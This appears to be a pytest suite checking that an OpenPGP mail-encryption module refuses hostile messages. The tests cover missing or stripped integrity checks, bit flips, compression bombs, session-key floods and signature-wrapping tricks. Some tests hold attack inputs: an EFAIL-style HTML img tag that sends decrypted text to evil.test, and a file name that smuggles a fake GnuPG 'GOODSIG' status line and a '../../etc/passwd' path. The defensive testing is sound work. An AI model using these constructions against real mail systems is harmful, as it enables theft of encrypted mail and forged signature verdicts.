"""Hostile OpenPGP: BI-067 to BI-071, BI-074 to BI-076, BI-080. Each ends in our own refusal, with nothing released."""

import bz2
import hashlib
import resource
import time
import zlib
from collections.abc import Iterator

import pytest
from cryptography.hazmat.decrepit.ciphers.modes import CFB
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms

from carepost.crypto.openpgp import certificate, cipher, content, keys, message, packets, sessions, usable, verdict
from carepost.crypto.openpgp.errors import Malformed, NotDecrypted, OpenPgpError, Unusable, Weak
from carepost.crypto.openpgp.secret import PrivateKey
from carepost.rfc import message as rfc_message
from tests.support.openpgp import JANE, MALLORY, NURSE, Gpg, key, letter, now

LITERAL = packets.frame(packets.LITERAL, b"b\0\0\0\0\0" + b"All is well.")


@pytest.fixture(scope="module")
def jane() -> PrivateKey:
    return key(JANE)


@pytest.fixture(scope="module")
def nurse() -> PrivateKey:
    return key(NURSE)


@pytest.fixture(scope="module")
def gpg() -> Iterator[Gpg]:
    home = Gpg()
    home.make(JANE, "Key-Type: RSA", "Key-Length: 2048", "Subkey-Type: RSA", "Subkey-Length: 2048")
    yield home
    home.close()


@pytest.fixture(scope="module")
def old(gpg: Gpg) -> PrivateKey:
    """An RSA key, to which everyone sends SEIPD version 1."""
    return keys.bring_in(gpg.secret(JANE))


def parts(gpg: Gpg, *options: str) -> tuple[bytes, bytes, bytes]:
    """(session key packet, encrypted packet, session key) of a message GnuPG made."""
    raw = gpg.run("-r", JANE, "--compress-algo", "none", *options, "--encrypt", data=b"All is well.")
    first, second = packets.read(raw)
    shown = gpg.all("--show-session-key", "--decrypt", data=raw).stderr
    session = shown.partition(b"session key: '")[2].partition(b"'")[0].partition(b":")[2]
    return raw[first.start : first.end], raw[second.start : second.end], bytes.fromhex(session.decode())


def sealed_by(session: bytes, plain: bytes) -> bytes:
    """What an attacker who knows the session key, which is every sender, can make: SEIPD 1 with a right MDC."""
    prefix = bytes(16) + bytes(2)
    whole = prefix + plain + b"\xd3\x14"
    whole += hashlib.sha1(whole, usedforsecurity=False).digest()
    return packets.frame(packets.SEIPD, b"\x01" + encrypted(session, whole))


def encrypted(session: bytes, whole: bytes) -> bytes:
    made = Cipher(algorithms.AES(session), CFB(bytes(16))).encryptor()
    return made.update(whole) + made.finalize()


def test_bi_068_without_integrity_protection_nothing_is_read(gpg: Gpg, old: PrivateKey) -> None:
    """SED by GnuPG itself, SEIPD renamed SED, and LibrePGP's packet 20."""
    pkesk, seipd, session = parts(gpg)
    body = packets.read(seipd)[0].body
    made = gpg.run("-r", JANE, "--rfc2440", "--cipher-algo", "AES", "--encrypt", data=b"All is well.")
    for raw in (
        made,
        pkesk + packets.frame(packets.SED, body[1:]),
        pkesk + packets.frame(packets.SED, encrypted(session, bytes(18) + LITERAL)),
        pkesk + packets.frame(packets.AED, body),
    ):
        if packets.SEIPD in {p.tag for p in packets.read(raw)}:
            continue
        with pytest.raises(Weak):
            cipher.decrypt(raw, [old])


def test_bi_068_a_stripped_or_wrong_mdc_is_fatal(gpg: Gpg, old: PrivateKey) -> None:
    pkesk, seipd, session = parts(gpg)
    assert cipher.decrypt(pkesk + seipd, [old]).content.data == b"All is well."
    assert cipher.decrypt(pkesk + sealed_by(session, LITERAL), [old]).content.data == b"All is well."
    body = packets.read(seipd)[0].body
    without = b"\x01" + encrypted(session, bytes(18) + LITERAL)
    for changed in (body[:-22], body[:-1], body[:20], without, without + bytes(22), b"\x01", b"", b"\x03" + body[1:]):
        with pytest.raises((NotDecrypted, Malformed)):
            cipher.decrypt(pkesk + packets.frame(packets.SEIPD, changed), [old])


def test_bi_068_a_cfb_gadget_changes_nothing_unnoticed(gpg: Gpg, old: PrivateKey) -> None:
    """EFAIL's way: blocks of known text turned into others."""
    pkesk, seipd, _ = parts(gpg)
    body = packets.read(seipd)[0].body
    for at in range(1, len(body), 3):
        flipped = bytearray(body)
        flipped[at] ^= 1
        with pytest.raises(NotDecrypted):
            cipher.decrypt(pkesk + packets.frame(packets.SEIPD, bytes(flipped)), [old])


@pytest.mark.parametrize("algorithm", ["3DES", "CAST5", "IDEA", "BLOWFISH", "TWOFISH", "CAMELLIA256"])
def test_bi_068_old_ciphers_are_not_read(gpg: Gpg, old: PrivateKey, algorithm: str) -> None:
    raw = gpg.run("-r", JANE, "--cipher-algo", algorithm, "--force-mdc", "--encrypt", data=b"All is well.")
    with pytest.raises(NotDecrypted):
        cipher.decrypt(raw, [old])


def test_bi_068_any_flipped_octet_of_version_2_is_refused(jane: PrivateKey) -> None:
    raw = packets.unwrap(
        cipher.encrypt(b"All is well.", [(JANE, jane.certificate)], now()), packets.MESSAGE, most=9_999
    )
    assert packets.read(raw)[-1].body[0] == 2
    for at in range(len(raw)):
        flipped = bytearray(raw)
        flipped[at] ^= 0x04
        try:
            found = cipher.decrypt(bytes(flipped), [jane]).content.data
        except OpenPgpError:
            continue
        # how a session key is framed is not authenticated; what it opens is
        assert (at < packets.read(raw)[0].end, found) == (True, b"All is well.")


def test_bi_068_chunks_cut_off_or_moved_are_refused(jane: PrivateKey) -> None:
    text = bytes(range(256)) * 400
    raw = packets.unwrap(cipher.encrypt(text, [(JANE, jane.certificate)], now()), packets.MESSAGE, most=1 << 20)
    first, last = packets.read(raw)
    body = last.body
    step = (1 << (body[3] + 6)) + 16
    head, rest, tag = body[:36], body[36:-16], body[-16:]
    chunks = [rest[at : at + step] for at in range(0, len(rest), step)]
    assert len(chunks) > 3
    for changed in (chunks[:-1], chunks[1:], [chunks[1], chunks[0], *chunks[2:]], chunks + chunks[-1:], []):
        made = raw[: first.end] + packets.frame(packets.SEIPD, head + b"".join(changed) + tag)
        with pytest.raises(NotDecrypted):
            cipher.decrypt(made, [jane])


def packed(kind: int, data: bytes) -> bytes:
    squeeze = zlib.compressobj(9, wbits=-15)
    made = {
        1: lambda: squeeze.compress(data) + squeeze.flush(),
        2: lambda: zlib.compress(data, 9),
        3: lambda: bz2.compress(data),
    }
    return packets.frame(packets.COMPRESSED, bytes((kind,)) + made[kind]())


@pytest.mark.parametrize("kind", [1, 2, 3])
def test_bi_069_a_compressed_bomb_ends_at_the_limit(gpg: Gpg, old: PrivateKey, kind: int) -> None:
    """128 MiB of zeros in a few kilobytes, twice over: never unpacked past the limit, in time or memory."""
    pkesk, _, session = parts(gpg)
    bomb = packed(kind, packets.frame(packets.LITERAL, b"b\0\0\0\0\0" + bytes(128 << 20)))
    twice = packed(kind, bomb)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    begin = time.process_time()
    for raw in (bomb, twice):
        with pytest.raises(Malformed) as refused:
            cipher.decrypt(pkesk + sealed_by(session, raw), [old])
        assert refused.value.code == "bomb"
    assert time.process_time() - begin < 5
    # kilobytes; the limit itself is 64 MiB
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200 * 1024


def test_bi_069_wrapped_a_hundred_times_is_refused(gpg: Gpg, old: PrivateKey) -> None:
    pkesk, _, session = parts(gpg)
    raw = LITERAL
    for _ in range(100):
        raw = packed(1, raw)
    with pytest.raises(Malformed) as refused:
        cipher.decrypt(pkesk + sealed_by(session, raw), [old])
    assert refused.value.code == "nested"
    assert (
        cipher.decrypt(pkesk + sealed_by(session, packed(1, packed(3, LITERAL))), [old]).content.data == b"All is well."
    )


ONE_PASS = packets.frame(packets.ONE_PASS, bytes(13))
SIGNATURE = packets.frame(packets.SIGNATURE, b"\x04\x00\x16\x08\0\0\0\0\0\0")


@pytest.mark.parametrize(
    "inside",
    [
        b"",
        LITERAL + LITERAL,
        LITERAL + packed(1, LITERAL),
        ONE_PASS + LITERAL,
        LITERAL + SIGNATURE,
        ONE_PASS + LITERAL + SIGNATURE + SIGNATURE,
        ONE_PASS + packed(1, ONE_PASS + LITERAL + SIGNATURE) + SIGNATURE,
        packets.frame(packets.SEIPD, b"\x01" + bytes(60)),
        packets.frame(packets.PUBLIC_KEY, b"\x04") + LITERAL,
        ONE_PASS * 11 + LITERAL + SIGNATURE * 11,
        packets.frame(packets.LITERAL, b"b\xff"),
        packets.frame(packets.COMPRESSED, b"\x01" + packed(1, LITERAL)[6:] + b"tail"),
        packets.frame(packets.COMPRESSED, b"\x07" + LITERAL),
        packets.frame(packets.COMPRESSED, b""),
        packed(1, LITERAL)[:-3],
    ],
)
def test_what_is_inside_has_one_reading_or_none(inside: bytes) -> None:
    with pytest.raises(Malformed):
        content.read(inside)


def test_bi_069_ten_thousand_session_keys_are_not_tried(
    gpg: Gpg, old: PrivateKey, monkeypatch: pytest.MonkeyPatch
) -> None:
    pkesk, seipd, _ = parts(gpg)
    with pytest.raises(Malformed):
        cipher.decrypt(pkesk * 10_000 + seipd, [old])
    body = bytearray(packets.read(pkesk)[0].body)
    body[-1] ^= 1
    tried = []
    own = sessions.open_
    monkeypatch.setattr(sessions, "open_", lambda *given: tried.append(1) or own(*given))
    with pytest.raises(NotDecrypted):
        cipher.decrypt(packets.frame(packets.PKESK, bytes(body)) * 150 + seipd, [old])
    assert len(tried) <= cipher.MAX_TRIES


def test_bi_080_every_way_not_to_decrypt_looks_the_same(gpg: Gpg, old: PrivateKey, jane: PrivateKey) -> None:
    """Wrong padding, wrong checksum, wrong cipher, wrong MDC, somebody else's: one error, one sentence."""
    pkesk, seipd, _ = parts(gpg)
    body = packets.read(pkesk)[0].body
    other = packets.read(seipd)[0].body
    probes = [pkesk + packets.frame(packets.SEIPD, other[:-1] + bytes((other[-1] ^ 1,)))]
    for at in (12, 60, 200, len(body) - 1):
        changed = bytearray(body)
        changed[at] ^= 0x01
        probes.append(packets.frame(packets.PKESK, bytes(changed)) + seipd)
    probes.append(packets.frame(packets.PKESK, body[:10] + b"\x00\x08\xff") + seipd)
    probes.append(packets.frame(packets.PKESK, body[:10] + b"\x08\x00" + bytes(256)) + seipd)
    said = set()
    for raw in probes:
        with pytest.raises(OpenPgpError) as refused:
            cipher.decrypt(raw, [old])
        said.add((type(refused.value), str(refused.value), refused.value.detail))
    with pytest.raises(OpenPgpError) as refused:
        cipher.decrypt(pkesk + seipd, [jane])
    said.add((type(refused.value), str(refused.value), refused.value.detail))
    assert said == {(NotDecrypted, str(NotDecrypted()), "")}


def test_bi_067_an_encrypted_part_inside_another_message_is_not_opened(jane: PrivateKey) -> None:
    """EFAIL: the attacker's HTML before and after the victim's ciphertext."""
    sealed = message.seal(letter(), [(JANE, jane.certificate)], at=now())
    inner = sealed[sealed.index(b"Content-Type: multipart/encrypted") :]
    raw = (
        b"From: mallory@evil.test\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"o\"\r\n\r\n"
        b'--o\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.test/\r\n--o\r\n' + inner +
        b'\r\n--o\r\nContent-Type: text/html\r\n\r\n">\r\n--o--\r\n'
    )  # fmt: skip
    assert message.kind(raw) == ""
    with pytest.raises(Malformed):
        message.open_(raw, [jane], [], at=now())


def test_bi_067_what_comes_out_stands_alone(jane: PrivateKey) -> None:
    """The attacker's own words outside the ciphertext are not in what is shown."""
    sealed = message.seal(letter(), [(JANE, jane.certificate)], at=now())
    mark = sealed.partition(b'boundary="')[2].partition(b'"')[0]
    preamble = sealed.replace(b"This is an OpenPGP/MIME", b"<img src='http://evil.test/?This is an OpenPGP/MIME")
    around = preamble.replace(b"--" + mark + b"--\r\n", b"--" + mark + b"--\r\n'>epilogue\r\n")
    opened = message.open_(around, [jane], [], at=now())
    assert b"evil" not in opened.message
    assert b"epilogue" not in opened.message


def test_bi_074_a_signature_over_a_part_is_not_one_over_the_message(nurse: PrivateKey) -> None:
    signed = message.sign(letter(), keys.signer(nurse, NURSE, now()))
    inner = signed[signed.index(b"Content-Type: multipart/signed") :]
    raw = (
        b"From: nurse@clinic.test\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"o\"\r\n\r\n--o\r\n"
        + inner + b"\r\n--o\r\nContent-Type: text/plain\r\n\r\nPay at once.\r\n--o--\r\n"
    )  # fmt: skip
    assert message.kind(raw) == ""
    assert (message.unprotected(raw).state, message.unprotected(raw).valid) == ("partial", False)
    assert message.unprotected(letter()) == verdict.UNSIGNED


def test_bi_074_a_signed_message_forwarded_inside_another_vouches_for_nothing(nurse: PrivateKey) -> None:
    signed = message.sign(letter(), keys.signer(nurse, NURSE, now()))
    raw = b"From: mallory@evil.test\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n" + signed
    assert message.kind(raw) == ""
    assert not message.unprotected(raw).valid


def test_bi_074_a_third_part_beside_a_signature_makes_it_no_signature(nurse: PrivateKey) -> None:
    signed = message.sign(letter(), keys.signer(nurse, NURSE, now()))
    mark = signed.partition(b'boundary="')[2].partition(b'"')[0]
    end = b"--" + mark + b"--\r\n"
    footer = signed.replace(end, b"--" + mark + b"\r\nContent-Type: text/plain\r\n\r\nPay at once.\r\n" + end)
    opened = message.open_(footer, [], [nurse.certificate], at=now())
    assert (opened.verdict.state, opened.verdict.reason) == ("invalid", "malformed")


def test_bi_074_somebody_elses_good_signature_is_not_the_senders(nurse: PrivateKey) -> None:
    mallory = key(MALLORY)
    signed = message.sign(letter(sender=NURSE), keys.signer(mallory, MALLORY, now()))
    opened = message.open_(signed, [], [nurse.certificate, mallory.certificate], at=now())
    assert (opened.verdict.state, opened.verdict.reason) == ("invalid", "signer-not-from")


def test_bi_075_another_from_inside_is_warned_of_and_not_believed(jane: PrivateKey, nurse: PrivateKey) -> None:
    inside = message.seal(letter(sender="director@clinic.test"), [(JANE, jane.certificate)], at=now())
    raw = inside.replace(b"From: director@clinic.test", b"From: mallory@evil.test", 1)
    opened = message.open_(raw, [jane], [nurse.certificate], at=now())
    assert opened.warnings == ("from-differs",)
    assert rfc_message.read(opened.message).from_[0].address == "mallory@evil.test"
    own = message.seal(letter(), [(JANE, jane.certificate)], at=now(), signer=keys.signer(nurse, NURSE, now()))
    moved = own.replace(b"From: nurse@clinic.test", b"From: mallory@evil.test", 1)
    opened = message.open_(moved, [jane], [nurse.certificate], at=now())
    assert (opened.verdict.valid, opened.verdict.reason) == (False, "from-differs"), "as S/MIME says it"
    assert opened.warnings == ("from-differs",) and "another sender" in opened.verdict.words
    assert rfc_message.read(opened.message).from_[0].address == NURSE


def test_bi_076_the_name_of_a_file_inside_goes_nowhere() -> None:
    name = b"\n[GNUPG:] GOODSIG 0 ../../etc/passwd"
    body = b"b" + bytes((len(name),)) + name + bytes(4) + b"text"
    found = content.read(packets.frame(packets.LITERAL, body))
    assert (found.data, found.signatures) == (b"text", ())


def test_no_error_carries_the_librarys_text(jane: PrivateKey, monkeypatch: pytest.MonkeyPatch) -> None:
    """The library's errors hold a backtrace when RUST_BACKTRACE is set, and sometimes bytes of the input."""
    monkeypatch.setenv("RUST_BACKTRACE", "1")
    spoiled = jane.certificate.raw[:40] + b"Zebrafinch" + jane.certificate.raw[50:]
    weak = packets.frame(packets.PUBLIC_KEY, b"\x04" + bytes(4) + b"\x01" + b"\x00\x08\xff\x00\x08\xff")
    for raw in (spoiled, weak):
        try:
            found = certificate.read(raw)
            refused: OpenPgpError = Unusable(usable.why_not(found, JANE, now()), "")
        except OpenPgpError as error:
            refused = error
        assert refused.code
        assert refused.__cause__ is None
        assert not {"backtrace", "Zebrafinch"} & set(str(refused).split())
